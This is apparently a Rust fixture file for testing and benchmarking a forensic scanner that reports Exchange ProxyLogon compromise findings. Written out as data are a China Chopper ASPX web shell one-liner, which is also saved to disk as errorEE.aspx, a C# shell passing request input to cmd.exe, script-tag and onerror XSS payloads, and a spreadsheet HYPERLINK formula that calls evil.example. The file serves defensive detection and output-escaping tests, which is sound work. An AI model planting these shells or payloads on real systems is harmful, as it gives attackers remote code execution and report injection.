//! Shared test and bench fixtures: a canonical ScanResult (fixed times, every
//! evidence kind, hostile text), one built from real corpus web shells, and a
//! large one for the benchmark.
#![allow(dead_code, unreachable_pub)]

use chrono::{DateTime, TimeZone, Utc};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::path::PathBuf;
use vigie_model::*;

/// Script an attacker hopes a report will run.
pub const PWN_SCRIPT: &str = "<script>window.__pwned=1</script>";
/// Markup with an event handler an attacker hopes a report will run.
pub const PWN_IMG: &str = "<img src=x onerror=\"window.__pwned=2\">";

pub fn t(y: i32, mo: u32, d: u32, h: u32, mi: u32, s: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(y, mo, d, h, mi, s).single().expect("valid fixture time")
}

fn fields(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
}

fn builtin(id: &str, title: &str) -> RuleRef {
    let mut r = RuleRef::new(id, title, RuleSource::Builtin);
    r.ruleset = Some("builtin".into());
    r
}

fn external_sigma() -> RuleRef {
    let mut r = RuleRef::new(
        "0e38a6a0-8e5b-4a5f-9e26-6b8f6a1d3c11",
        "Suspicious child process of w3wp.exe",
        RuleSource::Sigma,
    );
    r.author = Some("Jane Doe (@jdoe)".into());
    r.reference = vec!["https://example.org/advisories/exchange-2021".into()];
    r.ruleset = Some("sigmahq".into());
    r.license = Some("DRL 1.1".into());
    r.file = Some("rules/windows/process_creation/proc_creation_win_w3wp_child.yml".into());
    r
}

/// A fixed, deterministic result exercising every evidence kind.
pub fn canonical() -> ScanResult {
    let mut r = ScanResult::new(vec!["/srv/exchange".into(), "logs".into()]);
    r.tool.version = "0.1.0".into();
    r.started = t(2026, 11, 20, 9, 0, 0);
    r.finished = t(2026, 11, 20, 9, 1, 30);
    let shell = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"orange\"],\"unsafe\");%>";
    let start = shell.find("eval(").expect("fixture");
    let web = builtin("VG-WEB001", "China Chopper one-liner").clone();
    let f1 = Finding::new(
        web,
        Severity::Critical,
        Stage::Compromise,
        "China Chopper web shell",
        Location {
            offset: Some(start as u64),
            ..Location::path("/srv/exchange/inetpub/wwwroot/aspnet_client/system_web/error.aspx")
        },
    )
    .with_confidence(Confidence::Confirmed)
    .with_time(t(2021, 3, 3, 4, 12, 55))
    .with_remediation(
        "Isolate the server, keep a copy of the file for investigators, then remove it.",
    )
    .with_evidence(Evidence::Match {
        identifier: Some("$eval".into()),
        offset: Some(start as u64),
        excerpt: format!("{shell}{PWN_SCRIPT}"),
        highlight: Some((start, start + 25)),
    })
    .with_evidence(Evidence::File {
        path: "/srv/exchange/inetpub/wwwroot/aspnet_client/system_web/error.aspx".into(),
        size: 75,
        md5: Some("0f1e2d3c4b5a69788796a5b4c3d2e1f0".into()),
        sha1: Some("00112233445566778899aabbccddeeff00112233".into()),
        sha256: Some("aa".repeat(32)),
        modified: Some(t(2021, 3, 3, 4, 12, 55)),
        owner: Some("NT AUTHORITY\\SYSTEM".into()),
    });
    let mut f1 = f1;
    f1.host = Some("EXCH01".into());
    f1.attack = vec!["T1505.003".into()];
    f1.cves = vec!["CVE-2021-26855".into(), "CVE-2021-27065".into()];
    f1.kev = true;
    f1.indicators = vec!["FS-05".into()];
    f1.description =
        Some("A one-line ASPX web shell that runs whatever code the attacker posts.".into());
    f1.id = f1.compute_id();

    let log_raw = format!(
        "2021-03-03 04:13:07 10.0.0.5 POST /owa/auth/x.js - 443 - 203.0.113.7 {PWN_IMG} 200 0 0 31"
    );
    let mut f2 = Finding::new(
        builtin("VG-LOG003", "SSRF to /ecp via X-BEResource cookie"),
        Severity::High,
        Stage::Exploitation,
        "ProxyLogon SSRF request succeeded",
        Location { line: Some(1042), ..Location::path("logs/W3SVC1/u_ex210303.log") },
    )
    .with_time(t(2021, 3, 3, 4, 13, 7))
    .with_remediation(
        "=HYPERLINK(\"http://evil.example/\",\"Install the March 2021 security update\")",
    )
    .with_evidence(Evidence::LogLine {
        path: "logs/W3SVC1/u_ex210303.log".into(),
        line: 1042,
        raw: log_raw,
        fields: fields(&[
            ("date", "2021-03-03"),
            ("time", "04:13:07"),
            ("c-ip", "203.0.113.7"),
            ("cs-method", "POST"),
            ("cs-uri-stem", "/owa/auth/x.js"),
            ("cs-uri-query", "-"),
            ("cs-username", "-"),
            ("sc-status", "200"),
            ("cs(User-Agent)", PWN_IMG),
        ]),
    });
    f2.host = Some("EXCH01".into());
    f2.cves = vec!["CVE-2021-26855".into()];
    f2.kev = true;
    f2.attack = vec!["T1190".into()];
    f2.id = f2.compute_id();

    let mut f3 = Finding::new(
        external_sigma(),
        Severity::High,
        Stage::Compromise,
        "w3wp.exe started cmd.exe",
        Location { record_id: Some(88231), ..Location::path("logs/Security.evtx") },
    )
    .with_confidence(Confidence::Likely)
    .with_time(t(2021, 3, 3, 4, 20, 1))
    .with_evidence(Evidence::Event {
        path: "logs/Security.evtx".into(),
        record_id: Some(88231),
        time: Some(t(2021, 3, 3, 4, 20, 1)),
        channel: Some("Security".into()),
        computer: Some("EXCH01.corp.example".into()),
        event_id: Some(4688),
        provider: Some("Microsoft-Windows-Security-Auditing".into()),
        fields: fields(&[
            ("NewProcessName", "C:\\Windows\\System32\\cmd.exe"),
            ("CommandLine", "cmd /c whoami & echo <script>alert(1)</script>"),
            ("ParentProcessName", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
            ("NewProcessId", "0x1a4"),
            ("SubjectUserName", "EXCH01$"),
        ]),
    });
    f3.host = Some("EXCH01".into());
    f3.attack = vec!["T1059.003".into(), "T1505.003".into()];
    f3.id = f3.compute_id();

    let mut f4 = Finding::new(
        RuleRef::new(
            "VG-PRB001",
            "Exchange build older than the March 2021 update",
            RuleSource::Probe,
        ),
        Severity::Critical,
        Stage::Exposure,
        "Exchange 2016 CU19 without the March 2021 security update",
        Location::path("https://mail.example.org/"),
    )
    .with_confidence(Confidence::Confirmed)
    .with_evidence(Evidence::Http {
        request: "GET https://mail.example.org/owa/".into(),
        status: Some(200),
        facts: fields(&[("X-OWA-Version", "15.1.2176.2")]),
    })
    .with_evidence(Evidence::Fact { name: "fixed build".into(), value: "15.1.2176.9".into() });
    f4.host = Some("mail.example.org".into());
    f4.cves = vec!["CVE-2021-26855".into()];
    f4.kev = true;
    f4.id = f4.compute_id();

    let f5 = Finding::new(
        builtin("VG-LOG010", "Request to a path scanners probe"),
        Severity::Low,
        Stage::Attempt,
        "-1+1 probe of /autodiscover",
        Location { line: Some(7), ..Location::path("logs/W3SVC1/u_ex210302.log") },
    );
    for f in [f1, f2, f3, f4, f5] {
        r.push(f);
    }
    canonical_coverage(&mut r);
    r.finalize();
    r
}

fn canonical_coverage(r: &mut ScanResult) {
    let c = &mut r.coverage;
    c.files = FileCounts { scanned: 1204, skipped: 0, failed: 0, bytes: 734_003_200 };
    c.skip(Problem::new(
        "/srv/exchange/big.iso",
        ProblemCode::TooLarge,
        "larger than --max-file-size 256 MB: name and hash checks only",
    ));
    c.skip(Problem::new(
        "/srv/exchange/node_modules",
        ProblemCode::Excluded,
        "matched --exclude node_modules",
    ));
    c.fail(Problem::new(
        "/srv/exchange/locked.edb",
        ProblemCode::PermissionDenied,
        "permission denied: run as Administrator or give the file to vigie",
    ));
    c.records = RecordCounts { events: 18_220, lines: 402_113, errors: 1 };
    c.record_errors.push(Problem::new(
        "logs/W3SVC1/u_ex210301.log:77",
        ProblemCode::BadRecord,
        "line 77 has 12 fields, the #Fields header declares 14",
    ));
    c.rules.loaded = 3120;
    c.rules.rejected.push(RejectedRule {
        file: "yara/broken.yar".into(),
        rule: Some("Bad_Rule".into()),
        reason: "line 4: syntax error, unexpected identifier".into(),
    });
    c.rules.blind.push(BlindRule {
        rule: "VG-SYS004".into(),
        title: "Sysmon process tree".into(),
        reason: "no Sysmon log given".into(),
    });
    c.rules.sets.push(RuleSetInfo {
        name: "builtin".into(),
        kind: "yara".into(),
        path: "builtin".into(),
        loaded: 120,
        rejected: 0,
        sha256: "bb".repeat(32),
        version: Some("2026.11".into()),
    });
    c.rules.sets.push(RuleSetInfo {
        name: "sigmahq".into(),
        kind: "sigma".into(),
        path: "/opt/sigma/rules".into(),
        loaded: 3000,
        rejected: 1,
        sha256: "cc".repeat(32),
        version: None,
    });
    c.sources.push(SourceSpan {
        source: "IIS W3C".into(),
        paths: vec!["logs/W3SVC1/u_ex210301.log".into(), "logs/W3SVC1/u_ex210303.log".into()],
        records: 402_113,
        first: Some(t(2021, 2, 20, 0, 0, 1)),
        last: Some(t(2021, 3, 10, 23, 59, 59)),
        gaps: vec![Gap { from: t(2021, 2, 24, 3, 0, 0), to: t(2021, 2, 26, 8, 0, 0) }],
        warnings: vec![],
    });
    c.sources.push(SourceSpan {
        source: "Security".into(),
        paths: vec!["logs/Security.evtx".into()],
        records: 18_220,
        first: Some(t(2021, 3, 2, 0, 0, 0)),
        last: Some(t(2021, 3, 4, 0, 0, 0)),
        gaps: vec![],
        warnings: vec!["starts after the exploitation window opened (2021-01-06)".into()],
    });
    c.absent.push(AbsentArtefact {
        artefact: "Exchange HttpProxy logs".into(),
        expected: "V15/Logging/HttpProxy".into(),
        impact: "ProxyLogon SSRF (CVE-2021-26855) cannot be confirmed or ruled out".into(),
    });
    c.warnings.push("clock of EXCH01 is 2 h ahead of UTC".into());
    r.provenance = Provenance {
        command_line: vec![
            "vigie".into(),
            "scan".into(),
            "/srv/exchange".into(),
            "logs".into(),
            "--output".into(),
            "r.json".into(),
        ],
        scanner_host: Some("forensic-laptop".into()),
        kev: Some(KevInfo {
            catalog_version: "2026.11.18".into(),
            date_released: "2026-11-18".into(),
            count: 1480,
            origin: "embedded".into(),
        }),
        build_table: Some("2026-11-01".into()),
        input_hashes: vec![InputHash {
            path: "logs/Security.evtx".into(),
            size: 69_632,
            sha256: "dd".repeat(32),
        }],
    };
}

/// A web shell of our own that quotes script an attacker hopes a report will
/// run, with a China Chopper one-liner the built-in rules detect.
pub const HOSTILE_SHELL: &str = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"orange\"],\"unsafe\");%>\n<script>window.__pwned=1</script>\n<img src=x onerror=\"window.__pwned=2\">\n";

/// A scan tree made of real corpus samples, laid out like a small Exchange
/// server: `shells` web shells whose text contains `<script` under the web
/// root (plus [`HOSTILE_SHELL`]), the real IIS log of a Tunna tunnel and the
/// Tomcat access log with web-shell traffic under `logs/`, and the OTRF
/// ProxyLogon event export (zipped JSON) under `events/`.
pub fn corpus_tree(corpora: &std::path::Path, shells: usize, root: &std::path::Path) {
    let web = root.join("inetpub/wwwroot/aspnet_client/system_web");
    std::fs::create_dir_all(&web).expect("create web root");
    for (i, (file, bytes)) in script_webshells(corpora, shells).into_iter().enumerate() {
        let name = file.rsplit('/').next().unwrap_or(&file).replace(' ', "_");
        std::fs::write(web.join(format!("{i:03}-{name}")), bytes).expect("copy a web shell");
    }
    std::fs::write(web.join("errorEE.aspx"), HOSTILE_SHELL).expect("write the hostile shell");
    let logs = root.join("logs");
    std::fs::create_dir_all(&logs).expect("create logs");
    for (from, to) in [
        (
            "weblogs/EVTX-ATTACK-SAMPLES/Command and Control/Tunna_rdp_tunnel_IIS.log",
            "u_ex190105.log",
        ),
        (
            "weblogs/EVTX-ATTACK-SAMPLES/Command and Control/web_attack_and_isp_webshell_localhost_access_log.txt",
            "localhost_access_log.txt",
        ),
    ] {
        std::fs::copy(corpora.join(from), logs.join(to)).expect("copy a corpus log");
    }
    let events = root.join("events");
    std::fs::create_dir_all(&events).expect("create events");
    std::fs::copy(
        corpora.join("eventlog-json/OTRF-Security-Datasets/proxylogon_ssrf_rce_poc.zip"),
        events.join("proxylogon_ssrf_rce_poc.zip"),
    )
    .expect("copy the ProxyLogon event export");
}

/// Scan `root` with the real engine and the built-in rules (no rule cache),
/// with `started`/`finished` pinned so renders can be compared.
pub fn engine_scan(root: &std::path::Path, host: &str) -> ScanResult {
    let mut options = vigie_scan::ScanOptions::new(vec![root.to_path_buf()]);
    options.no_cache = true;
    options.host = Some(host.to_string());
    let engine = vigie_scan::Engine::load(options).expect("built-in rules load");
    let mut r = engine.scan(&vigie_scan::NoProgress);
    r.started = t(2026, 11, 20, 9, 0, 0);
    r.finished = t(2026, 11, 20, 9, 0, 42);
    r.provenance.command_line =
        vec!["vigie".into(), "scan".into(), root.to_string_lossy().into_owned()];
    r
}

/// The corpora root, or `None` (with a message; panics under `CI=true`).
pub fn corpora() -> Option<PathBuf> {
    let root = std::env::var_os("VIGIE_CORPORA").map(PathBuf::from).unwrap_or_else(|| {
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora")
    });
    if root.join("webshells").is_dir() {
        return Some(root);
    }
    let msg = format!("corpora not found at {} (set VIGIE_CORPORA)", root.display());
    if std::env::var("CI").as_deref() == Ok("true") {
        panic!("{msg}");
    }
    eprintln!("SKIP: {msg}");
    None
}

/// Web shells from the corpus whose text contains `<script` (up to `max`),
/// sorted by path: (relative path, bytes).
pub fn script_webshells(corpora: &std::path::Path, max: usize) -> Vec<(String, Vec<u8>)> {
    let manifest = std::fs::read_to_string(corpora.join("webshells/MANIFEST.tsv"))
        .expect("read webshells/MANIFEST.tsv");
    let mut out = Vec::new();
    for line in manifest.lines().skip(1) {
        let Some(file) = line.split('\t').next() else { continue };
        let Ok(bytes) = std::fs::read(corpora.join("webshells").join(file)) else { continue };
        let lower = String::from_utf8_lossy(&bytes).to_lowercase();
        if lower.contains("<script") {
            out.push((file.to_string(), bytes));
        }
    }
    out.sort();
    out.truncate(max);
    out
}

/// A result whose findings quote real web shells containing `<script`, plus
/// the canonical findings (with the `__pwned` payloads).
pub fn webshell_result(corpora: &std::path::Path, max: usize) -> ScanResult {
    let mut r = canonical();
    r.inputs.push(Input { value: "webshells".into(), kind: InputKind::Path });
    for (i, (file, bytes)) in script_webshells(corpora, max).into_iter().enumerate() {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        let pos = text.to_lowercase().find("<script").unwrap_or(0);
        let mut a = pos.saturating_sub(200);
        while !text.is_char_boundary(a) {
            a -= 1;
        }
        let mut b = (pos + 400).min(text.len());
        while !text.is_char_boundary(b) {
            b += 1;
        }
        let excerpt = text[a..b].to_string();
        let mut hl_end = (pos - a + 7).min(excerpt.len());
        while !excerpt.is_char_boundary(hl_end) {
            hl_end += 1;
        }
        let path = format!("webshells/{file}");
        let mut f = Finding::new(
            builtin("VG-WEB900", "Script tag in a server-side page"),
            if i % 3 == 0 { Severity::High } else { Severity::Medium },
            Stage::Compromise,
            format!("Web shell {}", file.rsplit('/').next().unwrap_or(&file)),
            Location { offset: Some(pos as u64), ..Location::path(path.clone()) },
        )
        .with_evidence(Evidence::Match {
            identifier: Some("$script".into()),
            offset: Some(pos as u64),
            excerpt,
            highlight: Some((pos - a, hl_end)),
        })
        .with_evidence(Evidence::File {
            path,
            size: bytes.len() as u64,
            md5: None,
            sha1: None,
            sha256: Some(hex(&Sha256::digest(&bytes))),
            modified: None,
            owner: None,
        });
        f.host = Some(if i % 2 == 0 { "WEB01".into() } else { "WEB02".into() });
        f.id = f.compute_id();
        r.push(f);
    }
    r.finalize();
    r
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

/// A large result for the benchmark: `n` findings, mostly log-line hits with
/// realistic raw lines, some file hits with hashes.
pub fn big(n: usize) -> ScanResult {
    let mut r = canonical();
    let base = t(2021, 3, 1, 0, 0, 0);
    for i in 0..n.saturating_sub(r.findings.len()) {
        let when = base + chrono::Duration::seconds(i as i64 * 7);
        let f = if i % 10 == 0 {
            let path =
                format!("/srv/exchange/inetpub/wwwroot/aspnet_client/d{}/shell{i}.aspx", i % 97);
            Finding::new(builtin("VG-WEB002", "Generic ASPX web shell"), Severity::High, Stage::Compromise, "ASPX web shell", Location::path(path.clone()))
                .with_evidence(Evidence::Match { identifier: Some("$exec".into()), offset: Some(120), excerpt: format!("<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c{i}\"]); %>"), highlight: Some((26, 60)) })
                .with_evidence(Evidence::File { path, size: 2048 + i as u64, md5: None, sha1: None, sha256: Some(format!("{:064x}", i as u128 * 0x9e37_79b9_7f4a_7c15)), modified: Some(when), owner: None })
        } else {
            let line = 10 + i as u64;
            let raw = format!(
                "{} 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=x{i}&schema=ResetOABVirtualDirectory 443 - 198.51.100.{} python-requests/2.25.1 200 0 0 {}",
                when.format("%Y-%m-%d %H:%M:%S"),
                i % 250,
                i % 900
            );
            Finding::new(
                builtin("VG-LOG007", "OAB virtual directory reset through ECP"),
                Severity::Medium,
                Stage::Exploitation,
                "ECP SetObject on OAB virtual directory",
                Location {
                    line: Some(line),
                    ..Location::path(format!("logs/W3SVC1/u_ex2103{:02}.log", 1 + i % 28))
                },
            )
            .with_time(when)
            .with_evidence(Evidence::LogLine {
                path: format!("logs/W3SVC1/u_ex2103{:02}.log", 1 + i % 28),
                line,
                raw,
                fields: fields(&[
                    ("c-ip", &format!("198.51.100.{}", i % 250)),
                    ("cs-method", "POST"),
                    ("sc-status", "200"),
                ]),
            })
        };
        let mut f =
            f.with_remediation("Install the latest Exchange cumulative and security updates.");
        f.host = Some(format!("EXCH{:02}", i % 4));
        f.id = f.compute_id();
        r.push(f);
    }
    r.finalize();
    r
}

/// Skip (or, under `CI=true`, fail) with a message.
pub fn skip(msg: &str) {
    if std::env::var("CI").as_deref() == Ok("true") {
        panic!("{msg} (required under CI=true; .ci/setup.d/report.sh installs it)");
    }
    eprintln!("SKIP: {msg}; run .ci/setup.d/report.sh to install it");
}

/// The Node helper folder when its packages are installed.
pub fn node_helpers() -> Option<PathBuf> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/browser");
    let node_ok = std::process::Command::new("node")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !node_ok {
        skip("node is not installed");
        return None;
    }
    if !dir.join("node_modules/playwright-core").is_dir()
        || !dir.join("node_modules/@microsoft/jest-sarif").is_dir()
    {
        skip("npm packages of crates/vigie-report/tests/browser are not installed");
        return None;
    }
    Some(dir)
}

/// Where tests leave artefacts (screenshots, rendered files): the folder
/// `name` under `$VIGIE_TEST_ARTIFACTS`, else under `<target>/test-artifacts/`.
pub fn artefacts(name: &str) -> PathBuf {
    let base = std::env::var_os("VIGIE_TEST_ARTIFACTS")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("../test-artifacts"));
    let dir = base.join(name);
    std::fs::create_dir_all(&dir).expect("create the test-artifacts folder");
    dir.canonicalize().unwrap_or(dir)
}

/// Run a Node helper script and parse the JSON line it prints.
pub fn run_node(
    dir: &std::path::Path,
    script: &str,
    args: &[&std::path::Path],
) -> serde_json::Value {
    let out = std::process::Command::new("node")
        .arg(dir.join(script))
        .args(args)
        .current_dir(dir)
        .output()
        .expect("run node");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{script} failed ({}): {stderr}\n{stdout}", out.status);
    let line = stdout.lines().last().unwrap_or("");
    serde_json::from_str(line)
        .unwrap_or_else(|e| panic!("{script} printed no JSON ({e}): {stdout}\n{stderr}"))
}
